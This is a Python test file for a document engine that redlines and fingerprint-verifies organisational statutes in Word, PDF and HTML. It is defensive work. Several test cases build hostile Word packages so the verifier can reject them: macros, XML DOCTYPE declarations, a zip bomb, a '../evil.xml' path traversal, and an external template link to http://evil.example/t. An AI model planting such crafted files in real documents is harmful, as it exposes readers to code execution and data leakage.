import copy
import io
import json
import re
import warnings
import zipfile
from dataclasses import replace
from datetime import date
from typing import Any

import docx
import pytest

from engine.documents import Adopted, Order, Redline, Templates, treefile
from engine.documents.output import adopted, produce, redlined
from engine.documents.tree import Heading
from engine.documents.verify import Issue, Standing, sealed, verify
from engine.source import DefinitionError
from tests.documents.conftest import TEMPLATES


@pytest.fixture
def version(shelf: Templates, sample: Any) -> Any:
    """Return version 1 as a tree file, and a function that makes other versions and formats."""
    facts = sample("statutes")

    def make(to: str = "tree", **changes: Any) -> bytes:
        given = copy.deepcopy(facts)
        for key, value in changes.items():
            record, _dot, name = key.partition("__")
            if name:
                given[record][name] = value
            else:
                given[record] = value
        return produce(Order("statutes", given), shelf, to).body

    return make


def account(shelf: Templates, before: bytes, after: bytes) -> str:
    return redlined(Redline("statutes", before, after), shelf, "txt").text


def test_a_changed_number_is_one_changed_word_and_nothing_else(
    shelf: Templates, version: Any
) -> None:
    told = account(shelf, version(), version(network__seat="1 New Street"))
    assert told.startswith("changed 2, added 0, removed 0, renumbered 0\n")
    assert "The seat is at [-18 Mill Road, Northtown. -]{+1 New Street. +}The meeting" in told


def test_an_article_more_renumbers_and_changes_nothing_else(organisation: Any, sample: Any) -> None:
    more = (
        '{% extends "core/statutes/en.md.j2" %}\n{% block chapter_general %}{{ super() }}\n'
        "## Languages {#languages .article}\n\n1. We speak three.\n{% endblock %}\n"
    )
    plain, longer = organisation(), organisation(statutes__en_md=more)
    order = Order("statutes", sample("statutes"))
    before = produce(order, Templates(plain.core), "tree").body
    after = produce(order, longer, "tree").body
    told = account(longer, before, after)
    assert told.startswith("changed 0, added 1, removed 0, renumbered 40\n")
    assert "added: 10 Languages\n" in told
    assert "renumbered: Who may be a member (10 -> 11)\n" in told


def test_word_shows_changes_as_its_own(shelf: Templates, version: Any) -> None:
    order = Redline("statutes", version(), version(rules__notice_days=14))
    body = redlined(order, shelf, "docx").body
    xml = zipfile.ZipFile(io.BytesIO(body)).read("word/document.xml").decode()
    assert re.findall(r"<w:delText[^>]*>([^<]*)<", xml) == ["10\xa0days ", "10\xa0days "]
    assert re.findall(r"<w:ins [^>]*><w:r><w:t[^>]*>([^<]*)<", xml) == [
        "14\xa0days ",
        "14\xa0days ",
    ]
    for to in ("html", "pdf", "md"):
        assert redlined(order, shelf, to).body


def test_a_word_file_that_comes_back_as_it_went_has_no_changes(
    shelf: Templates, version: Any
) -> None:
    assert account(shelf, version(), version("docx")).startswith(
        "changed 0, added 0, removed 0, renumbered 0"
    )


def edited(body: bytes) -> bytes:
    file = docx.Document(io.BytesIO(body))
    for paragraph in file.paragraphs:
        if "All members have equal rights" in paragraph.text:
            paragraph.runs[0].text = "All members have the same rights and duties."
    out = io.BytesIO()
    file.save(out)
    return out.getvalue()


def test_a_word_file_edited_by_somebody_is_compared_by_article(
    shelf: Templates, version: Any
) -> None:
    told = account(shelf, version(), edited(version("docx")))
    assert told.startswith("changed 1, added 0, removed 0, renumbered 0\n")
    assert (
        "All members have [-equal -]{+the same +}rights{+ and duties.+}"
        in told.replace("[-rights.-]{+rights +}", "rights")
        or "changed: 12 Rights of members" in told
    )


@pytest.mark.parametrize(
    ("spoil", "sentence"),
    [
        (lambda body: body[:2000], "it is broken"),
        (lambda _body: b"PK not a zip", "it is broken"),
        (lambda body: with_part(body, "word/vbaProject.bin", b"x"), "it holds macros"),
        (lambda body: with_part(body, "word/document.xml", b"<!DOCTYPE x><a/>"), "declarations"),
        (lambda body: with_part(body, "word/media/x", b"\0" * 210_000_000), "unpacks without end"),
    ],
)
def test_a_broken_or_harmful_word_file_is_refused(
    shelf: Templates, version: Any, spoil: Any, sentence: str
) -> None:
    with pytest.raises(DefinitionError, match=sentence):
        account(shelf, version(), spoil(version("docx")))


def with_part(body: bytes, name: str, part: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for entry in old.namelist():
            if entry != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, part)
    return out.getvalue()


@pytest.fixture
def issue(shelf: Templates, sample: Any) -> Issue:
    order = Order("statutes", sample("statutes"))
    made = {to: produce(order, shelf, to) for to in ("pdf", "docx", "html", "tree")}
    digests = tuple(one.file_digest for one in made.values())
    kept = {to: one.body for to, one in made.items()}
    return Issue(
        "statutes", "1", made["pdf"].text_digest, digests, Standing.ADOPTED, kept.__getitem__
    )


def test_the_file_on_record_is_known(issue: Issue, version: Any) -> None:
    verdict = verify(version("pdf"), [issue])
    assert verdict.standing is Standing.ADOPTED
    assert "exactly the file on record" in verdict.sentence


def test_an_issued_text_ends_with_its_fingerprint_and_says_the_same(
    shelf: Templates, sample: Any, version: Any, issue: Issue
) -> None:
    order = Order("statutes", sample("statutes"), verify="https://example.org/")
    made = produce(order, shelf, "html")
    assert made.text_digest == issue.text_digest
    assert f"https://example.org/consort:statutes:{issue.text_digest[:16]}" in made.text
    word = produce(order, shelf, "docx").body
    assert account(shelf, version(), word).startswith("changed 0, added 0, removed 0")
    kept = replace(issue, read={"tree": version(), "docx": word}.__getitem__)
    assert verify(packed_again(word), [kept]).standing is Standing.ADOPTED
    assert produce(order, shelf, "pdf").body


def test_a_code_names_its_text(issue: Issue) -> None:
    code = f"https://example.org/v?consort:statutes:{issue.text_digest[:16]}".encode()
    assert verify(code, [issue]).standing is Standing.ADOPTED


def packed_again(body: bytes) -> bytes:
    return with_part(body, "word/fontTable.xml", part_of(body, "word/fontTable.xml"))


def part_of(body: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(body)).read(name)


def test_a_word_file_counts_as_the_text_only_if_every_part_is_ours(
    issue: Issue, version: Any
) -> None:
    body = version("docx")
    verdict = verify(packed_again(body), [issue])
    assert verdict.standing is Standing.ADOPTED
    assert "every part of it is the one on record" in verdict.sentence
    hidden = part_of(body, "word/styles.xml").replace(b"</w:rPr>", b"<w:vanish/></w:rPr>", 1)
    verdict = verify(with_part(body, "word/styles.xml", hidden), [issue])
    assert verdict.standing is Standing.COPY
    verdict = verify(edited(body), [issue])
    assert verdict.standing is Standing.ALTERED
    assert verdict.altered == ("12 Rights of members",)


REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://x.org/relationships/%s" Target="http://evil.example/t"'
    b' TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("spoil", "sentence"),
    [
        (
            lambda body: with_part(
                body, "word/_rels/settings.xml.rels", REMOTE % b"attachedTemplate"
            ),
            "names http://evil.example/t (attachedTemplate)",
        ),
        (
            lambda body: with_part(body, "word/_rels/footer1.xml.rels", REMOTE % b"hyperlink"),
            "names http://evil.example/t (hyperlink)",
        ),
        (lambda body: with_part(body, "word/afchunk.docx", b"PK"), "word/afchunk.docx is no part"),
        (lambda body: with_part(body, "../evil.xml", b"<a/>"), "../evil.xml lies outside of it"),
        (lambda body: twice(body, "word/document.xml"), "word/document.xml stands in it 2 times"),
        (lambda body: body + body, "there are bytes before or behind it"),
        (lambda body: body + b"x", "there are bytes before or behind it"),
    ],
)
def test_a_word_file_that_holds_what_is_not_ours_is_altered_and_told(
    issue: Issue, version: Any, spoil: Any, sentence: str
) -> None:
    verdict = verify(spoil(version("docx")), [issue])
    assert verdict.standing is Standing.ALTERED
    assert sentence in verdict.sentence


def twice(body: bytes, name: str) -> bytes:
    out = io.BytesIO(body)
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "a") as file:
        file.writestr(name, part_of(body, name))
    return out.getvalue()


def saved_by_another_program(body: bytes) -> bytes:
    """Return a Word file as office programs give it back: own style ids, other spaces and seal."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for entry in old.namelist():
            part = old.read(entry)
            if entry in {"word/document.xml", "word/styles.xml"}:
                for own, theirs in ((b"TOC1", b"Contents1"), (b"TOC2", b"Contents2")):
                    part = part.replace(b'"%s"' % own, b'"%s"' % theirs)
                part = part.replace(b'"Clause"', b'"Style7"', 1_000).replace(b"\xc2\xa0", b" ")
                part = part.replace(b'w:name w:val="Style7"', b'w:name w:val="Clause"')
            if entry == "docProps/core.xml":
                part = part.replace(b"consort:statutes:", b"consort statutes ")
            new.writestr(entry, part)
    return out.getvalue()


def test_a_file_saved_by_another_program_has_the_words_on_record_and_is_a_copy(
    shelf: Templates, issue: Issue, version: Any
) -> None:
    again = saved_by_another_program(version("docx"))
    assert account(shelf, version(), again).startswith("changed 0, added 0, removed 0")
    assert verify(again, [issue]).standing is Standing.COPY
    altered = saved_by_another_program(edited(version("docx")))
    assert verify(altered, [issue]).altered == ("12 Rights of members",)


@pytest.mark.parametrize("language", ["en", "ar"])
@pytest.mark.parametrize("document", Templates(TEMPLATES).documents())
def test_a_word_file_that_comes_back_as_it_went_has_no_change(
    shelf: Templates, order: Any, document: str, language: str
) -> None:
    wanted = order(document, language)
    went = produce(wanted, shelf, "docx").body
    kept = produce(wanted, shelf, "tree").body
    told = account(shelf, kept, saved_by_another_program(went))
    assert told.startswith("changed 0, added 0, removed 0, renumbered 0")


def test_a_pdf_or_page_with_the_same_words_is_a_copy(issue: Issue, version: Any) -> None:
    for to in ("pdf", "html"):
        verdict = verify(version(to) + b"\n", [issue])
        assert verdict.standing is Standing.COPY
        assert "its words are the same" in verdict.sentence


def test_the_place_where_a_page_or_pdf_says_something_else_is_told(
    issue: Issue, version: Any
) -> None:
    page = version("html").replace(b"Each firm has one vote", b"Each firm has two votes")
    verdict = verify(page, [issue])
    assert verdict.standing is Standing.ALTERED
    assert "[-one vote" in verdict.sentence
    printed = version("pdf", rules__withdrawal_days=3)
    forged = printed.replace(sealed_digest(printed), issue.text_digest.encode())
    assert forged != printed
    assert "[-60-]{+3+}" in verify(forged, [issue]).sentence


@pytest.mark.parametrize("how", [b"/FlateDecod\xd1", b"/Nothing", b""])
def test_a_pdf_that_no_reader_understands_is_told(issue: Issue, version: Any, how: bytes) -> None:
    broken = version("pdf").replace(b"/FlateDecode", how)
    assert verify(broken, [issue]).standing is Standing.ALTERED


def test_an_added_article_is_tracked_in_word_with_its_heading(
    shelf: Templates, version: Any
) -> None:
    document, language, drawn = treefile.load(version())
    heads = [at for at, one in enumerate(document.blocks) if isinstance(one, Heading)]
    at = next(at for at in heads if document.blocks[at].id == "withdrawal")  # type: ignore[union-attr]
    then = next(one for one in heads if one > at)
    less = replace(document, blocks=document.blocks[:at] + document.blocks[then:])
    older = treefile.dump(less, language, drawn)
    body = redlined(Redline("statutes", older, version()), shelf, "docx").body
    xml = zipfile.ZipFile(io.BytesIO(body)).read("word/document.xml").decode()
    heading = next(
        one for one in xml.split("</w:p>") if ">Withdrawal<" in one and "Heading2" in one
    )
    assert re.search(r"<w:ins [^>]*><w:r><w:t[^>]*>Withdrawal<", heading)


def sealed_digest(body: bytes) -> bytes:
    """Return the fingerprint that a file carries."""
    found = sealed(body)
    assert found is not None
    return found[1].encode()


def test_broken_and_unknown_files_are_told(issue: Issue, version: Any) -> None:
    broken = verify(f"%PDF-1.7 consort:statutes:{issue.text_digest}{'x' * 2_000}".encode(), [issue])
    assert broken.standing is Standing.ALTERED
    assert "cannot be read" in broken.sentence
    assert verify(version("pdf", network__seat="X"), [issue]).standing is Standing.UNKNOWN
    assert verify(b"hello", [issue]).standing is Standing.UNKNOWN


def test_an_adopted_text_says_the_same_with_its_charts_and_the_record_as_its_annex(
    shelf: Templates, order: Any
) -> None:
    plan, record = order("workplan", "fr"), order("adoption", "fr")
    issued = produce(plan, shelf, "tree")
    wanted = Adopted("workplan", issued.body, record, date(2027, 3, 1), "b2", "https://x.org/")
    page = adopted(wanted, shelf, "html")
    assert page.text_digest == issued.text_digest
    assert "Adopté le 1er mars 2027, scrutin b2" in page.text
    assert page.text.count("<img") == produce(plan, shelf, "html").text.count("<img") + 1
    assert page.text.index("Acte d") > page.text.index("15. Signatures")
    assert f"https://x.org/consort:workplan:{issued.text_digest[:16]}" in page.text
    told = json.loads(issued.body)
    del told["drawn"]
    older = replace(wanted, tree=json.dumps(told).encode())
    assert adopted(older, shelf, "pdf").text_digest == issued.text_digest
    printed = adopted(wanted, shelf, "docx").body
    alone = Redline("workplan", issued.body, printed)
    assert "added 0" not in redlined(alone, shelf, "txt").text.partition("\n")[0]
    both = replace(alone, prints=(adopted(wanted, shelf, "tree").body,))
    assert redlined(both, shelf, "txt").text.startswith("changed 0, added 0, removed 0")


def test_of_a_translation_the_articles_are_compared_and_not_the_words(
    shelf: Templates, order: Any
) -> None:
    english, french = (
        produce(order("statutes", language), shelf, "tree").body for language in ("en", "fr")
    )
    told = account(shelf, english, french)
    assert told.startswith("changed 0, added 0, removed 0, renumbered 0")
